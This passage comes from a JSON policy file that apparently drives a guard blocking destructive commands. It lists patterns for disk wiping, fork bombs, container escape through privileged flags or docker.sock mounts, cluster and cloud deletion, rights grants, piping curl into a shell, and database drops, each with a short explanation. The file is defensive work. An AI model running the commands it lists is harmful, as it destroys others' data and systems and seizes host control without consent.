n":"This turns the machine off or starts it anew, for everybody on it.","match":[{"program":["shutdown","reboot","halt","poweroff","Stop-Computer","Restart-Comp\
uter"],"flags":{"none":["--help","-c","--version","--show"]}},{"program":["init","telinit"],"args":{"any":["0","6","1","s","S"]}},{"program":["systemctl","login\
ctl"],"subcommand":["reboot","poweroff","halt","rescue","emergency","kexec","soft-reboot"]}]},{"code":"destructive_operation_blocked","id":"fork-bomb","category\
":"fork-bombs","severity":"catastrophic","explanation":"This starts processes without end until the machine stands still.","match":[{"program":["fork-bomb"]}]},\
{"code":"destructive_operation_blocked","id":"fork-in-code","category":"fork-bombs","severity":"severe","explanation":"Nobody can say before it runs how many pr\
ocesses this code starts. Start them by the shell or a pool.","trust":3,"match":[{"program":["fork"],"language":["python","perl","ruby","php"]}]},{"code":"destr\
uctive_operation_blocked","id":"fill-disk-or-memory","category":"fork-bombs","severity":"severe","explanation":"This writes or reads without end until disk or m\
emory are full. Say how much.","trust":4,"match":[{"program":["yes"],"redirected":true,"writes":["root","system","local-system","home","personal","outside","wor\
kspace","source","disposable","temp","data","unknown"],"flags":{"none":["--help"]}},{"program":["cat","dd"],"reads":["endless"],"redirected":true,"language":["s\
hell"],"args":{"none":["count=*"]}},{"program":["tail","sort","tac","sponge","shuf","column"],"reads":["endless"]},{"program":["tail","sort","tac","sponge","shu\
f","column"],"from":{"program":["cat","tr","base64"],"reads":["endless"],"without":["head","timeout","cut","sed"]}},{"program":["tail","sort","tac","sponge","sh\
uf","column"],"from":{"program":["dd"],"reads":["endless"],"without":["head","timeout","cut","sed"],"operands_at_most":1}},{"program":["tail","sort","tac","spon\
ge","shuf","column"],"from":{"program":["yes"],"without":["head","timeout","sed","awk"]}},{"program":["dd"],"reads":["nowhere"],"writes":["workspace","root","ho\
me"]},{"program":["fallocate"],"names":["workspace","root","home"]},{"program":["fallocate","truncate"],"options":{"-l":["*T","*TB","*TiB","*P","*E"]}},{"progra\
m":["fallocate","truncate"],"options":{"-s":["*T","*TB","*TiB","*P","*E"]}}]},{"code":"destructive_operation_blocked","id":"overwrite-disk","category":"disks","\
severity":"catastrophic","explanation":"This writes to a disk below its file system; everything on it is lost. Use a file in the workspace as an image.","match"\
:[{"writes":["device"]},{"program":["shred","wipe","blkdiscard"],"names":["device"]},{"program":["badblocks"],"names":["device"],"flags":{"any":["-w"]}},{"progr\
am":["wipefs"],"names":["device"],"flags":{"any":["-a","--all","-o","--offset"],"none":["-n","--no-act"]}},{"program":["hdparm"],"names":["device"],"flags":{"an\
y":["--security-erase","--security-erase-enhanced","--security-set-pass","--write-sector","--make-bad-sector","--repair-sector","--trim-sector-ranges","--fwdown\
load","--dco-restore"]}},{"program":["mkfs","mkfs.*","mkswap","newfs*","mkfs_*"],"names":["device"],"flags":{"none":["--help","-V","-h","--version"]}},{"program\
":["Format-Volume","Clear-Disk","Initialize-Disk","Remove-Partition","nwipe"]},{"program":["bcachefs"],"subcommand":["format"]},{"program":["asr"],"flags":{"any\
":["--erase","-erase"]}},{"program":["systemd-cryptenroll"],"flags":{"any":["--wipe-slot"]}},{"program":["mke2fs"],"names":["device"],"flags":{"none":["--help",\
"-V","-h","-n"]}},{"program":["format","format.com"],"args":{"any":["*:","*:/","*:\\\\\\\\","/dev/*"]}},{"program":["nvme"],"subcommand":["format","sanitize"]}]},{"\
code":"destructive_operation_blocked","id":"repair-disk","category":"disks","severity":"severe","explanation":"This changes a file system, or makes one, where o\
thers may have data. Use a file in the workspace.","trust":4,"match":[{"program":["debugfs"],"names":["device"],"flags":{"any":["-w"]}},{"program":["tune2fs"],"\
names":["device"],"flags":{"none":["-l"]}},{"program":["resize2fs"],"names":["device"],"flags":{"none":["-P"]}},{"program":["e2fsck","fsck*","xfs_repair"],"name\
s":["device"],"flags":{"none":["-n","-N","-V","--version"]}},{"program":["mkfs","mkfs.*","mke2fs","mkswap","newfs","mkfs_*"],"names":["system","unknown","home"]\
},{"program":["parted","fdisk","cfdisk","gdisk","sfdisk","sgdisk"],"names":["unknown"],"flags":{"none":["-l","--list","-J","--json","-d","--dump","-p","--print"\
,"-s","-x","--verify","-V"]},"args":{"none":["print"]}},{"program":["mdadm"],"flags":{"any":["--stop","-S"]}}]},{"code":"destructive_operation_blocked","id":"ch\
ange-partitions","category":"disks","severity":"catastrophic","explanation":"This changes partitions or volumes; what is on them may be lost.","match":[{"progra\
m":["diskpart"]},{"program":["parted"],"names":["device"],"flags":{"none":["-l","--list","-h","--help","-v","--version"]},"args":{"none":["print"]}},{"program":\
["fdisk","cfdisk","gdisk"],"names":["device"],"flags":{"none":["-l","--list","-x","--list-details","-s","-h","--help","-v","-V","--version"]},"args":{"none":["p\
rint"]}},{"program":["sfdisk"],"names":["device"],"flags":{"none":["-l","--list","-d","--dump","-J","--json","-F","--list-free","-s","--show-size","-g","--show-\
geometry","-V","--verify","-n","--no-act","-h","--help","-v","--version"]}},{"program":["sgdisk"],"names":["device"],"flags":{"none":["-p","--print","-i","--inf\
o","-v","--verify","-V","--version","-h","--help"]}},{"program":["lvremove","vgremove","pvremove","lvreduce","vgreduce","pvcreate"],"flags":{"none":["-t","--tes\
t","-h","--help","--version"]}},{"program":["lvm"],"subcommand":["lvremove","vgremove","pvremove"],"flags":{"none":["-t","--test"]}},{"program":["zpool","zfs"],\
"subcommand":["destroy","labelclear","rollback"]},{"program":["btrfs"],"subcommand":["subvolume delete","device delete","device remove"]},{"program":["mdadm"],"\
flags":{"any":["--zero-superblock","--fail","--remove","-f","-r"]}},{"program":["cryptsetup"],"args":{"any":["luksFormat","erase","luksErase","luksRemoveKey","l\
uksKillSlot","reencrypt"],"none":["*.img","*.luks"]}},{"program":["diskutil"],"subcommand":["erase*","partitionDisk","secureErase","zeroDisk","apfs delete*","re\
format","unmountDisk"]},{"program":["grub-install"],"args":{"at_least":1}},{"program":["efibootmgr"],"flags":{"any":["-B","--delete-bootnum","-c","--create","-o\
","--bootorder"]}},{"program":["dmsetup"],"subcommand":["remove*","wipe_table","create","load","reload","suspend","rename","message"]}]},{"code":"destructive_op\
eration_blocked","id":"change-mounts","category":"disks","severity":"severe","explanation":"This changes what is mounted for everybody on the machine.","trust":\
4,"match":[{"program":["umount"],"flags":{"any":["-a","--all","-l","--lazy","-f","--force","-R"]}},{"program":["umount","mount"],"names":["root","system","home"\
,"device","workspace"]},{"program":["mount"],"flags":{"any":["--bind","--rbind","--move","-M","-B","-R"]}},{"program":["mount"],"options":{"-o":["*remount*","*b\
ind*"]}},{"program":["swapoff"],"flags":{"any":["-a","--all"]}},{"program":["swapoff","swapon"],"args":{"at_least":1}}]},{"code":"destructive_operation_blocked"\
,"id":"prune-containers","category":"containers","severity":"severe","explanation":"This removes containers, images, or volumes that others may need. Remove you\
rs by name.","trust":3,"spares":["own-act"],"match":[{"program":["docker","podman","nerdctl"],"subcommand":["system prune","volume prune","container prune","net\
work prune","pod prune","system reset","swarm leave","machine rm"],"flags":{"none":["--filter"]}},{"program":["docker","podman","nerdctl"],"subcommand":["image \
prune"],"flags":{"any":["-a","--all"]}},{"program":["docker","podman","nerdctl"],"subcommand":["volume rm","volume remove","stack rm","stack remove","service rm\
","secret rm","config rm","node rm","context rm"]},{"program":["docker","podman","nerdctl"],"subcommand":["rm","rmi","kill","stop","container rm","container kil\
l","container stop","image rm","container remove"],"args":{"any":["\\ufffc*"]},"line":{"none":["* --filter *","* -f name*","* --filter=*","* -f status*","* -f la\
bel*","* -f ancestor*","docker run *","docker create *","podman run *"]}},{"program":["docker","podman","nerdctl"],"subcommand":["rm","rmi","kill","stop","conta\
iner rm","container kill","container stop","image rm","container remove"],"args":{"any":["\\ufffc*"]},"line":{"any":["* ps","* ps *","* ls","* ls *","ls *","* li\
st *","* images","* images *","* stats *","* inspect *","* df *","* events *","* top *"],"none":["* --filter *","* -f name*","* --filter=*","* -f status*","* -f\
 label*","* -f ancestor*"]}},{"program":["docker","podman","nerdctl"],"subcommand":["rm","rmi","kill","stop","container rm","container stop","image rm"],"flags"\
:{"any":["-a","--all"]}},{"program":["docker","podman","nerdctl"],"subcommand":["compose down","compose rm"],"flags":{"any":["-v","--volumes","--rmi"]},"level":\
"strict"},{"program":["docker-compose","podman-compose"],"subcommand":["down","rm"],"flags":{"any":["-v","--volumes","--rmi"]},"level":"strict"},{"program":["co\
mpose-elsewhere"]},{"program":["crictl"],"subcommand":["rmi","rm","rmp"],"flags":{"any":["--prune","-a","--all","-f"]}},{"program":["ctr"],"subcommand":["* rm",\
"* delete","images rm"]}]},{"code":"destructive_operation_blocked","id":"container-escape","category":"containers","severity":"severe","explanation":"This gives\
 a container power over the host. Mount the folder that it needs, without extra rights.","trust":4,"match":[{"program":["docker","podman","nerdctl"],"subcommand\
":["run","create","container run","exec"],"flags":{"any":["--privileged"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create","container run\
"],"options":{"-v":["/:*","/etc*","/root*","/home:*","/var/run/docker.sock*","/run/docker.sock*","/var:*","/usr:*","/boot*","/dev:*","/proc*","/sys*","~:*","~/.\
ssh*","~/.aws*","*containerd.sock*","/var/lib/docker*","*docker.sock:*"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create","container run"\
],"options":{"--volume":["/:*","/etc*","/root*","/home:*","/var/run/docker.sock*","/run/docker.sock*","/var:*","/usr:*","/boot*","/dev:*","/proc*","/sys*","~:*"\
,"~/.ssh*","~/.aws*","*containerd.sock*","/var/lib/docker*","*docker.sock:*"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options"\
:{"--mount":["*source=/,*","*src=/,*","*source=/etc*","*src=/etc*","*docker.sock*","*src=/root*","*source=/root*"]}},{"program":["docker","podman","nerdctl"],"s\
ubcommand":["run","create"],"options":{"--pid":["host"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--ipc":["host"]}},{\
"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--userns":["host"]}},{"program":["docker","podman","nerdctl"],"subcommand":["r\
un","create"],"options":{"--uts":["host"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--cgroupns":["host"]}},{"program"\
:["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--cap-add":["ALL","all","SYS_ADMIN","CAP_SYS_ADMIN","SYS_PTRACE","SYS_MODULE","DAC_READ\
_SEARCH"]}},{"program":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--device":["/dev/sd*","/dev/nvme*","/dev/mem*","/dev/vd*"]}},{"pr\
ogram":["docker","podman","nerdctl"],"subcommand":["run","create"],"options":{"--security-opt":["*unconfined*","*disable*"]}},{"program":["curl","socat","nc"],"\
options":{"--unix-socket":["*docker.sock","*containerd.sock","*podman.sock"]}}]},{"code":"destructive_operation_blocked","id":"cluster-delete","category":"conta\
iners","severity":"severe","explanation":"This deletes or stops what runs in a cluster. Ask the person who runs it.","trust":4,"spares":["own-act"],"match":[{"p\
rogram":["kubectl","oc"],"subcommand":["patch"],"options":{"-p":["*finalizers*null*","*finalizers*[]*"]}},{"program":["kubectl","oc"],"subcommand":["patch"],"op\
tions":{"--patch":["*finalizers*null*","*finalizers*[]*"]}},{"program":["kubectl","oc","microk8s.kubectl","k3s kubectl"],"subcommand":["delete","drain","cordon"\
,"taint"]},{"program":["kubectl","oc"],"subcommand":["replace"],"flags":{"any":["--force"]}},{"program":["kubectl","oc"],"subcommand":["scale"],"options":{"--re\
plicas":["0"]}},{"program":["kubectl","oc"],"subcommand":["apply"],"flags":{"any":["--prune"]}},{"program":["kubectl","oc"],"subcommand":["create clusterrolebin\
ding","create rolebinding","adm policy *","adm *"]},{"program":["kubectl","oc"],"subcommand":["patch"],"options":{"-p":["*finalizers*","*cluster-admin*","*privi\
leged*"]}},{"program":["kubectl"],"subcommand":["run"],"flags":{"any":["--privileged"]}},{"program":["kubectl","oc"],"subcommand":["run","debug"],"options":{"--\
overrides":["*hostPID*","*privileged*","*hostPath*"]}},{"program":["kubectl","oc"],"subcommand":["debug node/*"]},{"program":["helm"],"subcommand":["uninstall",\
"delete","del","un"]},{"program":["kubeadm","k3s-uninstall.sh","rke2-uninstall.sh"],"subcommand":["reset"]},{"program":["k3s-uninstall.sh","rke2-uninstall.sh"]}\
,{"program":["minikube"],"subcommand":["delete"],"flags":{"any":["--all","--purge"]}},{"program":["kind","k3d"],"subcommand":["delete clusters","cluster delete"\
],"flags":{"any":["--all","-a","-A"]}},{"program":["kops","eksctl","rosa","talosctl"],"subcommand":["delete","delete *","reset"]},{"program":["nomad"],"subcomma\
nd":["job stop","stop","system gc","namespace delete","volume delete"]},{"program":["argocd"],"subcommand":["app delete","cluster rm","proj delete"]},{"program"\
:["flux"],"subcommand":["uninstall","delete"]},{"program":["istioctl"],"subcommand":["uninstall"]},{"program":["velero"],"subcommand":["schedule delete"]},{"pro\
gram":["etcdctl"],"subcommand":["del","defrag","member remove","snapshot restore","user delete"]},{"program":["consul"],"subcommand":["kv delete","leave","force\
-leave"]},{"program":["k9s"],"flags":{"any":["--write"]}}]},{"code":"destructive_operation_blocked","id":"local-machine-delete","category":"containers","severit\
y":"severe","explanation":"This deletes a machine or a cluster on this machine, with what is in it. Make one of your own and delete that.","trust":4,"level":"st\
rict","spares":["own-act"],"match":[{"program":["kind","minikube","k3d","limactl","colima","lando","ddev","distrobox","toolbox","orb","multipass"],"subcommand":\
["delete","destroy","rm","remove","* delete","* rm","* destroy","delete clusters"]},{"program":["vagrant"],"subcommand":["destroy"]}]},{"code":"destructive_oper\
ation_blocked","id":"cloud-delete","category":"clouds","severity":"severe","explanation":"This deletes or stops resources of a cloud account. Ask the person who\
 runs it.","trust":4,"spares":["own-data","own-act"],"match":[{"program":["cloud-sdk"]},{"program":["curl","http"],"line":{"any":["*script=*enkins*tems*.delete(\
)*","*script=*enkins*tems*.doDelete()*"]}},{"program":["aws"],"subcommand":["s3 rb"]},{"program":["aws"],"subcommand":["s3 rm","s3 mv"],"recursive":true},{"prog\
ram":["aws"],"subcommand":["s3 rm"]},{"program":["aws"],"subcommand":["s3 sync"],"flags":{"any":["--delete"]}},{"program":["aws"],"subcommand":["* delete-*","* \
terminate-*","* deregister-*","* batch-delete-*","* purge-*","* schedule-key-deletion","* remove-*","* stop-*","* disable-*","* release-*","* reboot-*","* destr\
oy-*","* revoke-*","* leave-organization","* close-account","* unsubscribe","* cancel-*","* detach-*","* unregister-*","* batch-write-item"]},{"program":["gsuti\
l"],"subcommand":["rm","rb"]},{"program":["gsutil"],"subcommand":["rsync"],"flags":{"any":["-d"]}},{"program":["aws"],"options":{"--change-batch":["*DELETE*"]}}\
,{"program":["azcopy"],"subcommand":["sync"],"options":{"--delete-destination":["true"]}},{"program":["azcopy"],"subcommand":["sync"],"flags":{"any":["--delete-\
destination"]}},{"program":["gcloud","bq"],"args":{"any":["delete","destroy","reset-windows-password","purge"]}},{"program":["gcloud"],"subcommand":["storage rm\
","storage buckets delete","compute instances stop","compute instances reset"]},{"program":["bq"],"subcommand":["rm"]},{"program":["az"],"args":{"any":["delete"\
,"purge","delete-batch","deallocate","delete-many"]}},{"program":["wrangler"],"subcommand":["d1 execute"],"flags":{"none":["--local"]}},{"program":["heroku"],"s\
ubcommand":["ps:stop"]},{"program":["rclone"],"subcommand":["delete","purge","sync","deletefile","cleanup","rmdirs","move"]},{"program":["mc"],"subcommand":["rb\
","rm","mirror"],"flags":{"any":["--force","--recursive","-r","--remove","--dangerous"]}},{"program":["s3cmd","s5cmd","b2","azcopy","swift"],"subcommand":["rb",\
"del","rm","delete*","remove","bucket delete","file delete","key delete"]},{"program":["dvc"],"subcommand":["gc"],"flags":{"any":["-c","--cloud"]}},{"program":[\
"dvc"],"subcommand":["destroy"]},{"program":["modal"],"subcommand":["app stop"]},{"program":["heroku"],"subcommand":["pg:psql"],"args":{"any":["*DROP *","*drop \
*","*TRUNCATE *","*truncate *"]}},{"program":["docker","podman"],"subcommand":["run"],"args":{"any":["*/aws-cli","*/aws-cli:*","*/cloud-sdk*","*/google-cloud-cl\
i*","*/azure-cli*"]},"line":{"any":["* s3 rb *","* s3 rm *--recursive*","* delete-*","* terminate-*","* delete *"]}}]},{"code":"destructive_operation_blocked","\
id":"cloud-rights","category":"clouds","severity":"severe","explanation":"This gives rights in a cloud account, or opens something of it to everybody. Ask the p\
erson who runs it.","trust":4,"match":[{"program":["aws"],"subcommand":["iam create-user","iam create-login-profile","iam attach-*","iam put-*","iam add-user-to\
-group","iam update-*","iam create-policy*","iam create-role","* authorize-security-group-ingress","s3api put-bucket-policy","s3api put-bucket-acl","s3api put-o\
bject-acl","s3api put-public-access-block","lambda add-permission","kms put-key-policy","* modify-image-attribute","* modify-snapshot-attribute","ec2 create-key\
-pair"]},{"program":["aws"],"subcommand":["s3 cp","s3 sync","s3 mv"],"options":{"--acl":["public-*"]}},{"program":["aws"],"flags":{"any":["--acl"]},"args":{"any\
":["public-read","public-read-write"]}},{"program":["gcloud"],"args":{"any":["add-iam-policy-binding","set-iam-policy","remove-iam-policy-binding"]}},{"program"\
:["gsutil"],"subcommand":["iam ch","acl ch","acl set","iam set","defacl ch","defacl set"]},{"program":["az"],"subcommand":["role assignment create","ad user cre\
ate","ad app credential reset"]}]},{"code":"destructive_operation_blocked","id":"infrastructure-destroy","category":"clouds","severity":"severe","explanation":"\
This destroys or changes real infrastructure without anybody looking at it. Make a plan and show it.","trust":4,"match":[{"program":["terraform","tofu","terragr\
unt"],"subcommand":["destroy","run-all destroy","state rm","workspace delete","force-unlock","taint","state push","destroy-all"]},{"program":["terraform","tofu"\
,"terragrunt"],"subcommand":["apply","run-all apply"],"flags":{"any":["-auto-approve","--auto-approve","-destroy","--destroy","--terragrunt-non-interactive"]}},\
{"program":["terraform","tofu","terragrunt"],"subcommand":["apply"],"line":{"any":["terraform *plan*-destroy*","tofu *plan*-destroy*","terragrunt *plan*-destroy\
*"]}},{"program":["pulumi"],"subcommand":["destroy","stack rm","state delete","down"]},{"program":["pulumi"],"subcommand":["up","update"],"flags":{"any":["-y","\
--yes","-f","--skip-preview"]}},{"program":["cdk","sam","serverless","sls","sst","eb","copilot","amplify","kamal","cdktf","up","chalice","zappa","terraform-dest\
roy"],"subcommand":["destroy","delete","remove","terminate","undeploy","app delete","env delete","svc delete"]},{"program":["vagrant"],"subcommand":["destroy"],\
"flags":{"any":["-f","--force"]}},{"program":["ansible"],"options":{"-a":["*rm -*","*shutdown*","*reboot*","*mkfs*","*dd if*","*state=absent*","*curl*|*sh*","*s\
ystemctl stop*","*state=stopped*","*state=terminated*","*state=deleted*"]}},{"program":["salt","salt-call","salt-ssh"],"args":{"any":["*rm -*","*shutdown*","*re\
boot*","*mkfs*","*dd if*","*systemctl stop*"]}},{"program":["virsh"],"subcommand":["destroy","undefine","vol-delete","pool-delete"]},{"program":["VBoxManage","v\
boxmanage"],"subcommand":["unregistervm"]},{"program":["qm","pct"],"subcommand":["destroy"]},{"program":["wsl","wsl.exe"],"flags":{"any":["--unregister"]}},{"pr\
ogram":["vim-cmd"],"subcommand":["*/destroy","*/unregister","*/power.off","*/*.remove*"]},{"program":["esxcli"],"subcommand":["vm process kill","storage * remov\
e","system shutdown *"]},{"program":["lxc-destroy","lxc-snapshot"],"flags":{"any":["-n","--name","-d","--destroy","-f","--force"]}},{"program":["lxc-destroy"],"\
args":{"at_least":1}},{"program":["quickemu"],"flags":{"any":["--delete-vm","--delete-disk"]}}]},{"code":"destructive_operation_blocked","id":"service-delete","\
category":"clouds","severity":"severe","explanation":"This deletes what a remote service keeps, for everybody who uses it. Ask the person who owns it.","trust":\
4,"spares":["own-data","own-act"],"match":[{"service_verb":"destroys"},{"program":["curl","http","https","wget","xh","xhs"],"options":{"-X":["PURGE"]}},{"progra\
m":["curl","http","https","wget","xh","xhs"],"options":{"--request":["PURGE"]}},{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*mutation*{\
*delete*(*","*mutation*{*Delete(*","*mutation*{*destroy*(*","*mutation*{*Destroy(*","*mutation*{*remove*(*"]},"to":"remote"},{"program":["curl","http","https","\
wget","xh","xhs"],"options":{"-d":["*mutation*{*delete*(*","*mutation*{*Delete(*","*mutation*{*destroy*(*","*mutation*{*Destroy(*","*mutation*{*remove*(*"]},"to\
":"remote"},{"program":["curl","http","https","wget","xh","xhs"],"options":{"--data":["*mutation*{*delete*(*","*mutation*{*Delete(*","*mutation*{*destroy*(*","*\
mutation*{*Destroy(*","*mutation*{*remove*(*"]},"to":"remote"},{"program":["curl","http","https","wget","xh","xhs"],"options":{"--data-raw":["*mutation*{*delete\
*(*","*mutation*{*Delete(*","*mutation*{*destroy*(*","*mutation*{*Destroy(*","*mutation*{*remove*(*"]},"to":"remote"},{"program":["fly","flyctl"],"subcommand":[\
"scale count 0"]},{"program":["heroku"],"subcommand":["ps:scale *=0"]},{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*/scriptText","*/scr\
ipt"]},"line":{"any":["*script=*.delete()*","*script=*.doDelete()*","*script=*.doKill()*","*script=*.doSafeRestart*","*script=*.deleteDir()*","*script=*.deleteR\
ecursive()*","*script=*.doWipeOutWorkspace()*","*script=*.execute()*"]}},{"program":["nsupdate","knsupdate"],"flags":{"none":["-h","-V","--help","--version"]}},\
{"program":["cli4"],"flags":{"any":["--delete","-X"]}},{"program":["cli4"],"flags":{"any":["--delete","-X"]}},{"program":["Remove-Az*","Remove-EC2*","Remove-S3*\
","Remove-AD*","Remove-Mg*","Remove-VM","Remove-Service"]},{"program":["curl","http","https","wget","xh","xhs"],"options":{"--data":["*<delete>*"]},"args":{"any\
":["*/update*"],"none":["localhost:*","127.0.0.1:*","*@localhost:*","*@127.0.0.1:*","*://localhost*","*://127.0.0.1*","*://*@localhost*","localhost*"]}},{"progr\
am":["curl","http","https","wget","xh","xhs"],"options":{"-d":["*<delete>*","*\\"delete\\":{\\"query\\"*"]},"args":{"any":["*/update*"],"none":["localhost:*","127.0\
.0.1:*","*@localhost:*","*@127.0.0.1:*","*://localhost*","*://127.0.0.1*","*://*@localhost*","localhost*"]}},{"program":["Remove-Az*","Remove-EC2*","Remove-S3*"\
,"Remove-AD*","Remove-Mg*","Remove-VM","Remove-Service"]}]},{"code":"destructive_operation_blocked","id":"drop-database","category":"databases","severity":"seve\
re","explanation":"This drops a database or all that is in it. Make one of your own for the test and drop that.","trust":4,"spares":["own-data","own-act"],"matc\
h":[{"program":["sql"],"subcommand":["drop-database","drop-schema","flush","drop-owned","drop-keyspace","drop-tablespace","shutdown","purge"],"args":{"none":["t\
est","*_test","test_*","*_test_*","*-test","tmp_*","*_tmp","*_ci","ci_*","scratch*"]}},{"program":["dropdb"],"args":{"none":["test","*_test","test_*","*_test_*"\
,"*-test","tmp_*","*_tmp","*_ci","ci_*","scratch*"]},"flags":{"none":["--help"]}},{"program":["mysqladmin"],"args":{"any":["drop","shutdown","flush-*"]}},{"prog\
ram":["nc","ncat","netcat","telnet"],"line":{"any":["echo *flush_all*","printf *flush_all*"]}},{"program":["redis-cli","valkey-cli"],"subcommand":["del","unlink\
","DEL","UNLINK"],"args":{"any":["\\ufffc","\\\\*"]}},{"program":["redis-cli","valkey-cli"],"subcommand":["config set","CONFIG SET"],"args":{"any":["dir","dbfilena\
me"]}},{"program":["pg_dropcluster","dropuser","cassandra-nodetool"]},{"program":["pg_resetwal"],"flags":{"none":["-n","--dry-run","--help","--version"]}},{"pro\
gram":["sqlite-utils"],"subcommand":["drop-table","drop-view"]},{"program":["nodetool"],"subcommand":["decommission","removenode","assassinate"]},{"program":["k\
afka-topics","kafka-topics.sh","kafka-delete-records*"],"flags":{"any":["--delete","--offset-json-file"]}},{"program":["curl","http","https","wget","xh","xhs"],\
"args":{"any":["*:9200/*","*:9200","*:5984/*","*:8086/*","*:15672/api/*","*:8500/v1/kv*","*elastic*","*opensearch*","*:7700/indexes*","*:6333/collections*","*:8\
108/collections*","*:8983/solr*","*:8080/v1/schema*","*:19530/*","*:5000/api/v1/db*","*:5000/v2/*"]},"options":{"-X":["DELETE"]}},{"program":["curl","http","htt\
ps","wget","xh","xhs"],"args":{"any":["*:9200/*","*:9200","*:5984/*","*:8086/*","*:15672/api/*","*:8500/v1/kv*","*elastic*","*opensearch*","*:7700/indexes*","*:\
6333/collections*","*:8108/collections*","*:8983/solr*","*:8080/v1/schema*","*:19530/*","*:5000/api/v1/db*","*:5000/v2/*"]},"options":{"--request":["DELETE"]}},\
{"program":["curl","http","https","wget","xh","xhs"],"args":{"any":["*:9200/*","*:9200","*:5984/*","*:8086/*","*:15672/api/*","*:8500/v1/kv*","*elastic*","*open\
search*","*:7700/indexes*","*:6333/collections*","*:8108/collections*","*:8983/solr*","*:8080/v1/schema*","*:19530/*","*:5000/api/v1/db*","*:5000/v2/*"]},"optio\
ns":{"--method":["DELETE"]}},{"program":["http","https","xh","xhs"],"subcommand":["DELETE"],"args":{"any":["*:9200/*","*:9200","*:5984/*"]}},{"program":["curl",\
"http","https","wget","xh","xhs"],"args":{"any":["*/_delete_by_query*","*/tsdb/delete_series*"]}},{"program":["curl","http","https","wget","xh","xhs"],"options"\
:{"--url":["*/_delete_by_query*"]}}]},{"code":"destructive_operation_blocked","id":"destroy-messages","category":"databases","severity":"severe","explanation":"\
This deletes queues, topics or the messages in them. Make one of your own for the test and delete that.","trust":4,"spares":["own-data","own-act"],"match":[{"pr\
ogram":["kafka-acls*"],"flags":{"any":["--remove"]}},{"program":["kafka-consumer-groups*"],"flags":{"any":["--delete","--delete-offsets","--execute"]}},{"progra\
m":["kafka-configs*"],"flags":{"any":["--delete-config"]}},{"program":["rpk"],"subcommand":["topic trim-prefix"]},{"program":["celery"],"subcommand":["purge","a\
mqp queue.purge","amqp queue.delete"]},{"program":["rq"],"subcommand":["empty"]}]},{"code":"destructive_operation_blocked","id":"destroy-rows","category":"datab\
ases","severity":"severe","explanation":"This destroys or changes a whole table. Write a WHERE, or a migration that can be undone.","trust":4,"spares":["own-dat\
a","own-act"],"match":[{"program":["sql"],"subcommand":["drop-table","drop-collection","drop-column","drop-bucket","drop-stream","drop-measurement","drop-series\
","drop-partition","truncate","delete-all","update-all"],"args":{"none":["test","*_test","test_*","*_test_*","*-test","tmp_*","*_tmp","*_ci","ci_*","scratch*"]}\
},{"program":["sql"],"subcommand":["delete-production","update-production"],"level":"strict"}]},{"code":"destructive_operation_blocked","id":"database-rights","\
category":"databases","severity":"severe","explanation":"This gives or takes rights in a database, or changes how it runs. Ask the person who runs it.","trust":\
4,"match":[{"program":["sql"],"subcommand":["grant","revoke","create-user","create-role","alter-user","drop-user","drop-role","set-global","kill"]}]},{"code":"d\
estructive_operation_blocked","id":"reset-application-data","category":"databases","severity":"severe","explanation":"This throws away what the application has \
stored. Use a database made for the test.","trust":3,"spares":["own-data"],"match":[{"program":["rails","rake","bin/rails","hanami"],"args":{"any":["db:drop*","\
db:reset*","db:purge*","db:schema:load","db:migrate:reset","db:truncate_all","db:setup:force"]},"flags":{"none":["-T","--tasks","-n","--dry-run"]},"environment"\
:{"RAILS_ENV":["prod*","staging","dev*"]}},{"program":["rails","rake","hanami"],"args":{"any":["db:drop*","db:reset*","db:purge*","db:migrate:reset","db:truncat\
e_all"],"none":["*RAILS_ENV=test*"]},"flags":{"none":["-T","--tasks","-n","--dry-run"]},"environment":{"*":["prod*","production","staging"]}},{"program":["rails\
","rake"],"args":{"any":["db:drop:all","db:drop","db:purge","db:truncate_all","db:reset","db:migrate:reset","DISABLE_DATABASE_ENVIRONMENT_CHECK=1"],"none":["RAI\
LS_ENV=test"]},"flags":{"none":["-T","--tasks","-n","--dry-run"]}},{"program":["manage.py","django-admin"],"subcommand":["flush","reset_db"]},{"program":["pytho\
n"],"subcommand":["manage.py flush","manage.py reset_db","./manage.py flush","*/manage.py flush","manage.py migrate * zero","*/manage.py reset_db"],"flags":{"no\
ne":["--help","-h","--plan","--check"]}},{"program":["prisma"],"subcommand":["db push"],"flags":{"any":["--force-reset","--accept-data-loss"]}},{"program":["php\
","artisan","sail"],"args":{"any":["migrate:fresh","migrate:reset","db:wipe","migrate:refresh","doctrine:database:drop","doctrine:schema:drop","d:d:d"]},"flags"\
:{"none":["--dump-sql","--pretend"]}},{"program":["php"],"args":{"any":["doctrine:schema:drop"]},"flags":{"all":["--dump-sql","--force"]}},{"program":["sequeliz\
e","sequelize-cli","typeorm","mikro-orm","knex","dbmate","mix","sqlx","diesel","goose","migrate","ecto","refinery","flyway","liquibase","atlas"],"subcommand":["\
db:drop*","schema:drop","db:migrate:undo:all","database:drop","drop","ecto.drop","ecto.reset","database drop","database reset","clean","drop-all","reset","dropA\
ll","schema clean","down-to 0","db:reset"]},{"program":["drizzle-kit"],"subcommand":["push*"],"flags":{"any":["--force"]}},{"program":["php"],"subcommand":["*wp\
-cli.phar db reset","*wp-cli.phar db drop","*wp-cli.phar site empty"]},{"program":["drush","drush.phar"],"subcommand":["@* sql-drop","@* sql:drop"]},{"program":\
["console","symfony"],"args":{"any":["doctrine:database:drop","doctrine:schema:drop","d:d:d"]},"flags":{"any":["--force","-f"]}},{"program":["convex"],"subcomma\
nd":["import"],"flags":{"any":["--replace","--replace-all"]}},{"program":["supabase"],"subcommand":["migration down"]},{"program":["magento","bin/magento"],"sub\
command":["setup:uninstall","setup:db-schema:drop"]},{"program":["hasura"],"subcommand":["metadata clear","migrate delete","database drop"]},{"program":["direct\
us"],"subcommand":["database drop"]},{"program":["strapi"],"subcommand":["import","transfer"],"flags":{"any":["--force"]}},{"program":["medusa"],"subcommand":["\
db:drop","db:reset"]},{"program":["payload"],"subcommand":["migrate:fresh","migrate:reset","migrate:refresh"]},{"program":["adonis","ace"],"subcommand":["db:wip\
